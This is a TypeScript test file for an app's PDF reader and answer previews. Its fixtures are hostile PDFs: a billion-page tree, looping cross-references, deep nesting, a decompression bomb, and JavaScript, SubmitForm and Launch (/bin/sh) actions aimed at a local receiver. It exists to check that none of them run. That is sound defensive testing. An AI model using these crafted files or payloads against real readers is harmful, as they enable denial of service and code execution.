/**
 * Hostile-input suite, PDFs in the Evidence reader and in answer previews (see
 * hostile-input.test.ts for the whole list): encrypted files (empty and real user password),
 * a page tree of shared subtrees declaring a billion pages, an object stream stored inside
 * itself, a cross-reference chain that loops, objects nested 100,000 deep, a content stream
 * that inflates to 28 MB of drawing operators, an image declared 60,000 × 60,000, and
 * JavaScript, URI, SubmitForm and Launch actions aimed at a loopback receiver. Each gets
 * the page status spec 2 gives it (never text it should not have), a preview selecting it
 * is refused whole, no action is ever run or fetched, the server keeps answering while the
 * child parses, and the canary beside svc's folders stays whole.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import crypto from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';
import { answersOf } from '../src/answers/service.js';
import { sel, startAnswerServer, type AnswerServer } from './_answers.js';
import type { FileRef } from './_evidence.js';
import { plantCanary, type Canary } from './_hostile.js';
import { refusal } from './_library.js';
import { compressedPdfFromObjects, deepTreeObjects, makePdf, pdfFromObjects } from './_pdf.js';

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';
const VISIBLE = 'BT /F1 12 Tf 72 720 Td (visible words) Tj ET';
const stream = (body: string | Buffer, extra = '') => {
  const bytes = Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1');
  return `<< /Length ${bytes.length}${extra} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
};

/** One page showing VISIBLE; `page` and `catalog` add keys to those dictionaries, `more` adds objects from 6 on. */
const onePage = (page = '', catalog = '', more: string[] = []) =>
  pdfFromObjects([
    `<< /Type /Catalog /Pages 2 0 R${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R${page} >>`,
    FONT,
    stream(VISIBLE),
    ...more,
  ]);

/** A billion pages in a few kilobytes: the root's 1,000 kids are one node whose 1,000 kids are one node of 1,000 kids, all one page. */
function billionPages(): Buffer {
  return pdfFromObjects([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${'3 0 R '.repeat(1000)}] /Count 1000000000 >>`,
    `<< /Type /Pages /Parent 2 0 R /Kids [${'4 0 R '.repeat(1000)}] /Count 1000000 >>`,
    `<< /Type /Pages /Parent 3 0 R /Kids [${'5 0 R '.repeat(1000)}] /Count 1000 >>`,
    '<< /Type /Page /Parent 4 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >> /Contents 7 0 R >>',
    FONT,
    stream(VISIBLE),
  ]);
}

/** The empty-password RC4 file of _pdf.ts with its /U entry replaced: opening it now needs a user password. */
function passworded(): Buffer {
  const text = makePdf(['Secret words'], { encrypt: true }).toString('latin1');
  return Buffer.from(text.replace(/\/U <([0-9a-f]+)>/, (_, hex: string) => `/U <${crypto.randomBytes(hex.length / 2).toString('hex')}>`), 'latin1');
}

/** The one-page file with a trailer whose /Prev names its own cross-reference table. */
function xrefLoop(): Buffer {
  const text = onePage().toString('latin1');
  const table = text.indexOf('\nxref\n') + 1;
  return Buffer.from(text.replace('/Root 1 0 R >>', `/Root 1 0 R /Prev ${table} >>`), 'latin1');
}

let s: AnswerServer;
let canary: Canary;
let receiver: { url: string; hits: string[]; close(): Promise<void> };

test.before(async () => {
  const hits: string[] = [];
  const server = http.createServer((req, res) => void (hits.push(`${req.method} ${req.url}`), res.end('caught')));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const hook = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  receiver = { url: hook, hits, close: () => new Promise<void>((r) => (server.closeAllConnections(), server.close(() => r()))) };
  const image = zlib.deflateSync(Buffer.alloc(1024));
  // The parse timeout stays the helper's 5 s: a slow machine must not turn a readable page into a timeout.
  s = await startAnswerServer({
    pdfs: {
      paper: makePdf(['Page one: results']),
      encrypted: makePdf(['Secret words'], { encrypt: true }),
      passworded: passworded(),
      billion: billionPages(),
      objstm: compressedPdfFromObjects(deepTreeObjects(2), { streamInItself: true }),
      xrefloop: xrefLoop(),
      nested: onePage(` /Nested ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
      inflating: makePdf([{ raw: '0 0 m 1 1 l S\n'.repeat(2_000_000), deflate: true }]),
      image: pdfFromObjects([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> /XObject << /Im1 6 0 R >> >> /Contents 5 0 R >>',
        FONT,
        stream(`${VISIBLE} q 600 0 0 600 0 0 cm /Im1 Do Q`),
        stream(image, ' /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode'),
      ]),
      actions: onePage(
        ` /AA << /O << /S /JavaScript /JS (app.launchURL\\("${hook}/page-open"\\)) >> /C << /S /Launch /F (/bin/sh) >> >> /Annots [6 0 R]`,
        ` /OpenAction << /S /JavaScript /JS (this.submitForm\\("${hook}/open-action"\\); app.alert\\('pwned'\\)) >> /Names << /JavaScript << /Names [(init) << /S /JavaScript /JS (app.launchURL\\("${hook}/names"\\)) >>] >> >>`,
        [`<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${hook}/uri) >> /AA << /E << /S /SubmitForm /F << /FS /URL /F (${hook}/submit) >> >> >> >>`],
      ),
    },
  });
  canary = plantCanary(s.t.dirs.root);
});
test.after(async () => {
  await s.close();
  await receiver.close();
});
test.before.each(() => answersOf(s.t.ctx).previews.clear());
test.after.each(async () => {
  canary.check();
  assert.equal(receiver.hits, [], 'no action reached the receiver');
});

const read = async (f: FileRef) => {
  const r = await s.call('GET', `${s.P(s.projectId)}/reader/${f.file_id}?${s.V}&version_id=${f.version_id}&page=1`);
  assert.is(r.status, 200, r.text);
  return { ...r.json(), bytes: r.text.length };
};
const file = (name: string) => s.files[name]!;

/** A preview selecting page 1 of `name` beside a readable page is refused whole (409 unreadable, or 413 past a limit). */
async function previewRefused(name: string, status = 409, reason = 'page_unreadable') {
  const r = await s.preview({ selections: [sel(file('text'), [{ kind: 'page', page: 1 }]), sel(file(name), [{ kind: 'page', page: 1 }])] });
  refusal(r, status, reason);
}

test('encrypted PDFs, with an empty or a real user password, are unsupported (encrypted): no text, preview refused', async () => {
  for (const name of ['encrypted', 'passworded']) {
    const page = await read(file(name));
    assert.equal([page.status, page.reason, page.text], ['unsupported', 'encrypted', null], name);
  }
  await previewRefused('passworded');
});

test('a page tree declaring a billion pages is refused in a small answer (its pages are not listed one by one); the server keeps answering', async () => {
  const page = await read(file('billion'));
  assert.equal([page.status, page.reason, page.text], ['limit_exceeded', 'page_tree_nodes', null]);
  assert.is(page.page_count, 1_000_000_000, 'the count the file claims is said');
  assert.equal(page.pages, [{ page: 1, status: 'limit_exceeded' }]);
  assert.is(page.other_pages, 'not_examined');
  assert.ok(page.bytes < 4096, `a small answer (${page.bytes} bytes)`);
  assert.is((await s.t.request('GET', '/api/health')).status, 200);
  await previewRefused('billion', 413, 'page_limit_exceeded');
});

test('an object stream stored inside itself, a looping cross-reference chain and 100,000-deep nesting are refused as malformed or unsupported, not left to the clock', async () => {
  for (const name of ['objstm', 'xrefloop', 'nested']) {
    const page = await read(file(name));
    assert.ok(['malformed', 'unsupported'].includes(page.status), `${name}: ${page.status} ${page.reason} ${page.message}`);
    assert.is(page.text, null);
  }
  await previewRefused('objstm');
});

test('a content stream inflating to 28 MB of operators times out; the server answers meanwhile and the next page reads', async () => {
  const pending = read(file('inflating'));
  await new Promise((r) => setTimeout(r, 300));
  const asked = Date.now();
  assert.is((await s.t.request('GET', '/api/health')).status, 200);
  assert.ok(Date.now() - asked < 2000, `the server answered long before the 5 s parse timeout (${Date.now() - asked} ms)`);
  const page = await pending;
  assert.equal([page.status, page.reason, page.text], ['timeout', 'parse_timeout', null]);
  assert.equal((await read(file('paper'))).text, 'Page one: results');
});

test('JavaScript, URI, SubmitForm and Launch actions are never run: the page reads as its text, nothing is fetched', async () => {
  const page = await read(file('actions'));
  assert.equal([page.status, page.text], ['extracted', 'visible words']);
  const preview = await s.preview({ selections: [sel(file('actions'), [{ kind: 'page', page: 1 }])] });
  assert.is(preview.status, 201, preview.text);
  assert.equal(preview.json().payload.sources.map((x: any) => x.text), ['visible words']);
  await new Promise((r) => setTimeout(r, 200)); // a fetch started by an action would have landed by now
});

test('an image declared 60,000 × 60,000 is not decoded for text: the page reads', async () => {
  const page = await read(file('image'));
  assert.equal([page.status, page.text], ['extracted', 'visible words']);
});

test.run();
